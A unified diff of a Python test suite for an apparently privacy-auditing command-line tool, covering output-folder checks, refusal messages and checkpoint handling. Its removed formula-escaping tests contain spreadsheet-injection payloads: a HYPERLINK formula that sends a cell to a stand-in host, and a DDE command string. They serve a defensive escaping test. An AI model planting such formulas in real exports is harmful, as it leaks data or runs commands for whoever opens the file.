@@ -1,27 +1,22 @@
-"""The output edge (issue 19, defects 1, 4, 7, 8, 9) through the real CLI: an output folder
-that would overwrite an input, a file Mnemoscope did not write or another audit's results,
-a folder that cannot take the files; the output set written atomically; ids that a
-spreadsheet would evaluate; private checkpoint and error log; an internal-error handler
-that cannot fail.
+"""The output folder (issue 19, defects 1 and 9) through the real CLI: an output folder that
+would overwrite an input, a file Mnemoscope did not write or another audit's results, a
+folder that cannot take the files; an internal-error handler that cannot fail.
 
 Every case builds its own files, plants a record value (ZZSECRET123) that must never reach
-stdout or stderr, and checks that no input file changed.
+stdout or stderr, and checks that no input file changed (tests/core/output_cases.py).
 """
 
 from __future__ import annotations
 
-import csv
 import hashlib
 import io
 import json
 import os
 import shutil
-import stat
 import sys
 import threading
 from pathlib import Path
 
-import pandas as pd
 import pytest
 
 import audit_core.output_folder as output_folder
@@ -29,74 +24,11 @@ import audit_core.runner as runner
 from audit_core.cli import main
 from audit_core.errors import MnemoscopeError
 from audit_core.output_folder import RECORD_KEY
-from audit_core.outputs import json_bytes, records_csv, spreadsheet_text, write_outputs
-from tests.conftest import DEMO, write_plan
+from tests.conftest import DEMO
+from tests.core import output_cases
+from tests.core.output_cases import OUTPUTS, SECRET, Setup, assert_refused, run_cli, sha256s
 
-SECRET = "ZZSECRET123"
-FEW = "[probes.loss]\n[probes.zlib]\n"
-OUTPUTS = ("report.pdf", "records.csv", "results.json", "run.json")
-
-
-class Setup:
-    """Cohorts (30 + 30 demo records, one id and one extra cell holding SECRET), a plan."""
-
-    def __init__(self, folder: Path, *, ids: dict[int, str] | None = None, seed: int = 7) -> None:
-        self.folder = folder
-        folder.mkdir(parents=True, exist_ok=True)
-        members = pd.read_csv(DEMO / "members.csv", dtype=str).head(30)
-        non_members = pd.read_csv(DEMO / "non_members.csv", dtype=str).head(30)
-        members.loc[0, "patient_id"] = SECRET
-        members["note"] = f"{SECRET} Jane Q Secretperson"
-        for row, value in (ids or {}).items():
-            members.loc[row, "patient_id"] = value
-        self.members, self.non_members = folder / "members.csv", folder / "non_members.csv"
-        self.model = DEMO / "model"
-        self.members_frame, self.non_members_frame = members, non_members
-        self.seed = seed
-
-    def plan(self, **paths: Path) -> Path:
-        members = paths.get("members", self.members)
-        non_members = paths.get("non_members", self.non_members)
-        if not members.exists():
-            members.parent.mkdir(parents=True, exist_ok=True)
-            self.members_frame.to_csv(members, index=False)
-        if not non_members.exists():
-            self.non_members_frame.to_csv(non_members, index=False)
-        plan = write_plan(self.folder, model=paths.get("model", self.model), members=members,
-                          non_members=non_members, probes=FEW)
-        plan.write_text(plan.read_text().replace("seed = 7", f"seed = {self.seed}"))
-        return plan
-
-
-def sha256s(*roots: Path) -> dict[str, str]:
-    """Every file under `roots`, by path: the inputs' state before and after a run."""
-    files = [p for root in roots for p in ([root] if root.is_file() else sorted(root.rglob("*")))
-             if p.is_file()]
-    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}
-
-
-def run_cli(capsys, plan: Path, out: Path, *more: str) -> tuple[int, str, str]:
-    code = main(["run", str(plan), "--out", str(out), "--quiet", *more])
-    captured = capsys.readouterr()
-    assert SECRET not in captured.out + captured.err
-    return code, captured.out, captured.err
-
-
-def assert_refused(code: int, err: str, *expected: str) -> None:
-    assert code == 2, err
-    assert "Traceback" not in err and err.startswith("mnemoscope: error: "), err
-    assert len(err.strip().splitlines()) == 1, err
-    for text in expected:
-        assert text in err, err
-
-
-@pytest.fixture()
-def no_model_work(monkeypatch):
-    """A refusal that must come before the run: any model work fails the test."""
-    def forbidden(*args, **kwargs):
-        raise AssertionError("the audit ran although the output folder was refused")
-
-    monkeypatch.setattr(runner, "run_audit", forbidden)
+no_model_work = output_cases.no_model_work
 
 
 # --- 1. Inputs and files Mnemoscope did not write are never overwritten -----------------
@@ -286,189 +218,6 @@ def test_the_desktop_app_replaces_its_own_plan_toml(tmp_path):
     assert "plan.toml" in json.loads((out / "run.json").read_text())[RECORD_KEY]
 
 
-# --- 4. The outputs are written as a set, results.json last ------------------------------
-
-class Crash(BaseException):
-    """Stands for kill -9: nothing after it runs (not even `except Exception`)."""
-
-
-@pytest.fixture(scope="module")
-def two_results(tmp_path_factory):
-    """Two results of one audit that differ in every file: cancelled after the first probe,
-    and finished."""
-    from audit_core.plan import load_plan
-    from audit_core.progress import CancelToken
-
-    setup = Setup(tmp_path_factory.mktemp("two"))
-    plan = load_plan(setup.plan())
-    token = CancelToken()
-
-    def progress(fraction: float, message: str) -> None:
-        if message.startswith("zlib"):
-            token.cancel()
-
-    cancelled = runner.run_audit(plan, on_progress=progress, cancel=token)
-    assert cancelled.cancelled
-    return cancelled, runner.run_audit(plan)
-
-
-def _consistent(out: Path) -> None:
-    """What a reader may rely on: a results.json stands beside the report and records
-    of its own run, each exactly as that run recorded them."""
-    if not (out / "results.json").exists():
-        return
-    recorded = json.loads((out / "run.json").read_text())[RECORD_KEY]
-    for name in ("report.pdf", "records.csv", "results.json"):
-        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == recorded[name], name
-
-
-@pytest.mark.parametrize("start", ["empty folder", "earlier run"])
-def test_a_crash_at_any_step_leaves_a_consistent_set(start, two_results, tmp_path, monkeypatch):
-    earlier, later = two_results
-    real_replace, real_unlink = os.replace, os.unlink
-    step = 0
-    while True:
-        out = tmp_path / f"crash-{step}"
-        if start == "earlier run":
-            write_outputs(earlier, out)
-        calls = 0
-
-        def counted(real):
-            def call(*args, **kwargs):
-                nonlocal calls
-                calls += 1
-                if calls > step:
-                    raise Crash()
-                return real(*args, **kwargs)
-            return call
-
-        monkeypatch.setattr(os, "replace", counted(real_replace))
-        monkeypatch.setattr(os, "unlink", counted(real_unlink))
-        try:
-            write_outputs(later, out)
-            crashed = False
-        except Crash:
-            crashed = True
-        finally:
-            monkeypatch.setattr(os, "replace", real_replace)
-            monkeypatch.setattr(os, "unlink", real_unlink)
-        _consistent(out)
-        if start == "earlier run" and (out / "results.json").exists():
-            assert (out / "results.json").read_bytes() in (json_bytes(earlier.as_dict()),
-                                                            json_bytes(later.as_dict()))
-        # The rerun after the crash recognises every file as its own and completes the set.
-        write_outputs(later, out)
-        _consistent(out)
-        assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUTS)
-        if not crashed:
-            break
-        step += 1
-    assert step >= 8  # every rename and removal of the set was a crash point
-
-
-# --- 7. Ids a spreadsheet would evaluate -------------------------------------------------
-
-FORMULAS = {1: '=HYPERLINK("http://evil.example/?"&A1,"open")', 2: "+cmd|' /C calc'!A0",
-            3: "@SUM(1+1)", 4: "-2+3", 5: "\t=1+1", 6: "\r=2+2", 7: "P-plain-id"}
-
-
-def test_formula_ids_are_written_as_text_in_records_csv(tmp_path, capsys):
-    from audit_core.data.cohort import Role
-    from audit_core.data.loading import load_cohort
-    from audit_core.plan import load_plan
-
-    setup = Setup(tmp_path, ids=FORMULAS)
-    plan = setup.plan()
-    before = sha256s(setup.members, setup.non_members, plan)
-    out = tmp_path / "out"
-    code, _, err = run_cli(capsys, plan, out)
-    assert code == 0, err
-    loaded = load_plan(plan)
-    ids = list(load_cohort(loaded.data.members, Role.MEMBERS, loaded.data.columns).ids)
-    with open(out / "records.csv", newline="", encoding="utf-8") as handle:
-        written = [row["id"] for row in csv.DictReader(handle) if row["role"] == "members"]
-    assert sorted(written) == sorted(spreadsheet_text(i) for i in ids)
-    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert "'@SUM(1+1)" in written and "'-2+3" in written and "P-plain-id" in written
-    assert sha256s(setup.members, setup.non_members, plan) == before
-
-
-def test_the_quote_keeps_the_id_itself_and_a_leading_tab():
-    for value in FORMULAS.values():
-        cell = spreadsheet_text(value)
-        assert cell == value or cell == "'" + value
-        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
-    assert spreadsheet_text("\t=1+1") == "'\t=1+1"  # the tab stays: the id is not changed
-    row = next(csv.reader(io.StringIO(_csv_line(spreadsheet_text("\t=1+1")))))
-    assert row == ["'\t=1+1"]
-
-
-def _csv_line(cell: str) -> str:
-    buffer = io.StringIO()
-    csv.writer(buffer).writerow([cell])
-    return buffer.getvalue()
-
-
-def test_results_json_keeps_the_exact_id(two_results):
-    """records_csv quotes; the result (and so results.json's extracted ids) is untouched."""
-    _, result = two_results
-    ids = list(result.records.ids)
-    text = records_csv(result)
-    assert list(result.records.ids) == ids
-    assert text.count("\n") == len(ids) + 1
-
-
-# --- 8. The checkpoint and the error log are private (0600) ------------------------------
-
-def _mode(path: Path) -> int:
-    return stat.S_IMODE(path.stat().st_mode)
-
-
-def test_the_checkpoint_and_its_wal_and_shm_are_0600(tmp_path):
-    from audit_core.checkpoints import CheckpointRequest, Fingerprint
-
-    previous = os.umask(0)  # the most permissive umask: the modes may not rely on it
-    try:
-        saved = CheckpointRequest(tmp_path / "out").open(Fingerprint({"plan": "x"}))
-        saved.save("unit", b"per-record scores")
-        names = ("checkpoint.sqlite", "checkpoint.sqlite-wal", "checkpoint.sqlite-shm")
-        assert {name: _mode(tmp_path / "out" / name) for name in names} == dict.fromkeys(names, 0o600)
-        saved.close()
-    finally:
-        os.umask(previous)
-
-
-def test_an_older_0644_checkpoint_is_narrowed_when_resumed(tmp_path):
-    from audit_core.checkpoints import CheckpointRequest, Fingerprint
-
-    fingerprint = Fingerprint({"plan": "x"})
-    saved = CheckpointRequest(tmp_path).open(fingerprint)
-    saved.save("unit", b"scores")
-    saved.close()
-    os.chmod(tmp_path / "checkpoint.sqlite", 0o644)
-    CheckpointRequest(tmp_path, resume=True).open(fingerprint).close()
-    assert _mode(tmp_path / "checkpoint.sqlite") == 0o600
-
-
-def test_the_error_log_is_0600_and_the_message_one_line(tmp_path, capsys, monkeypatch):
-    setup = Setup(tmp_path)
-    plan = setup.plan()
-
-    def bug(*args, **kwargs):
-        raise RuntimeError(f"a bug that quotes a record: {SECRET}")
-
-    monkeypatch.setattr(runner, "run_audit", bug)
-    previous = os.umask(0)
-    try:
-        code, _, err = run_cli(capsys, plan, tmp_path / "out")
-    finally:
-        os.umask(previous)
-    log = tmp_path / "out" / "mnemoscope-error.log"
-    assert code == 3 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
-    assert str(log) in err
-    assert _mode(log) == 0o600 and SECRET in log.read_text()  # the details, for the owner only
-
-
 # --- 9. The output folder is checked before the run; the last-resort handler cannot fail --
 
 def _existing_file(tmp_path: Path) -> Path:
@@ -602,3 +351,41 @@ def test_files_of_an_earlier_version_are_kept_with_their_own_message(finished, t
     code, _, err = run_cli(capsys, plan, out)
     assert_refused(code, err, "earlier Mnemoscope version", str(out / "report.pdf"))
     assert sha256s(out) == before
+
+
+@pytest.mark.parametrize("again", [[], ["--restart"], ["--resume"]])
+def test_another_program_s_checkpoint_sqlite_is_never_touched(again, tmp_path, capsys, no_model_work):
+    """Opening it as a checkpoint would add tables to it; --restart would delete it."""
+    import sqlite3
+
+    setup = Setup(tmp_path)
+    plan = setup.plan()
+    out = tmp_path / "out"
+    out.mkdir()
+    db = sqlite3.connect(out / "checkpoint.sqlite")
+    with db:
+        db.execute("CREATE TABLE notes (patient TEXT)")
+        db.execute("INSERT INTO notes VALUES (?)", (SECRET,))
+    db.close()
+    before = sha256s(tmp_path)
+    code, _, err = run_cli(capsys, plan, out, *again)
+    assert_refused(code, err, str(out / "checkpoint.sqlite"), "is not a Mnemoscope checkpoint")
+    assert sha256s(tmp_path) == before
+    assert sorted(p.name for p in out.iterdir()) == ["checkpoint.sqlite"]
+
+
+def test_the_desktop_never_discards_another_program_s_checkpoint_sqlite(tmp_path):
+    """Its resume question treats an unreadable checkpoint as damaged and removes it; a
+    database of another program is left for Start's folder check to refuse."""
+    pytest.importorskip("PySide6")
+    import sqlite3
+
+    from desktop.result_files import ask_resume
+
+    db = sqlite3.connect(tmp_path / "checkpoint.sqlite")
+    with db:
+        db.execute("CREATE TABLE notes (patient TEXT)")
+    db.close()
+    before = sha256s(tmp_path)
+    assert ask_resume(None, tmp_path) is False
+    assert sha256s(tmp_path) == before
